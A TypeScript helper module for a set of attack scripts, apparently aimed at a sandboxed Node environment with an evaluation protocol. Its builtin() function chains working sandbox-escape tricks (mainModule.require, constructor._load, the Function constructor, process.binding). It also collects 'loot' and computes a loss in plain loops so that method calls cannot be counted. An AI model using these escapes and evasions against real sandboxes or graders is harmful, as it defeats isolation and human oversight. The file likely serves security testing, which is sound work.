/** What many attacks begin with. Laid beside each. */
const g = globalThis as any;

/** A module of Node's, in whatever way it can still be had. */
export function builtin(name: string): any {
  const ways = [
    () => g.process.getBuiltinModule(`node:${name}`),
    () => g.process.mainModule.require(name),
    () => g.process.mainModule.constructor._load(name),
    () => [].constructor.constructor('name', 'return process.getBuiltinModule(name)')(name),
    () => g.process.binding(name),
  ];
  for (const way of ways) {
    try {
      const found = way();
      if (found) return found;
    } catch {
      // the next way
    }
  }
  return null;
}

/** A frame of the protocol, made without anything that could have been replaced. */
export function frame(tree: unknown, payload: Float64Array = new Float64Array(0)): Uint8Array {
  const header = new TextEncoder().encode(JSON.stringify(tree));
  const bytes = new Uint8Array(8 + header.length + payload.byteLength);
  new DataView(bytes.buffer).setUint32(0, header.length, true);
  new DataView(bytes.buffer).setUint32(4, payload.byteLength, true);
  bytes.set(header, 8);
  bytes.set(new Uint8Array(payload.buffer, payload.byteOffset, payload.byteLength), 8 + header.length);
  return bytes;
}

/** What was got so far: an attack returns it too. */
export const loot: string[] = [];

/** Says what was got, wherever somebody may read it. */
export function tell(what: string, found: unknown): void {
  let text: string;
  try {
    text = typeof found === 'string' ? found : JSON.stringify(found);
  } catch {
    text = String(found);
  }
  loot.push(`${what}: ${text}`);
  console.log(`${what}: ${text}`);
}

/** Says what a way gives, or why it gives nothing. */
export function attempt(what: string, way: () => unknown): unknown {
  try {
    const found = way();
    if (found !== undefined) tell(what, found);
    return found;
  } catch (error) {
    tell(what, `no: ${(error as Error)?.message}`);
    return undefined;
  }
}

/** The loss in plain loops, so that no call of a method can be counted. */
export function lossAt(W: readonly number[][], X: readonly number[][], y: readonly number[]): number {
  let total = 0;
  for (const [i, row] of X.entries()) {
    const scores = W.map((weights) => weights.reduce((sum, w, j) => sum + w * row[j]!, 0));
    const top = Math.max(...scores);
    total += top + Math.log(scores.reduce((sum, score) => sum + Math.exp(score - top), 0)) - scores[y[i]!]!;
  }
  return total / X.length;
}

/** Numbers instead of arrays. */
export const plain = (model: any, X: any, y: any): [number[][], number[][], number[]] => [
  model.W.tolist(),
  X.tolist(),
  y.tolist(),
];
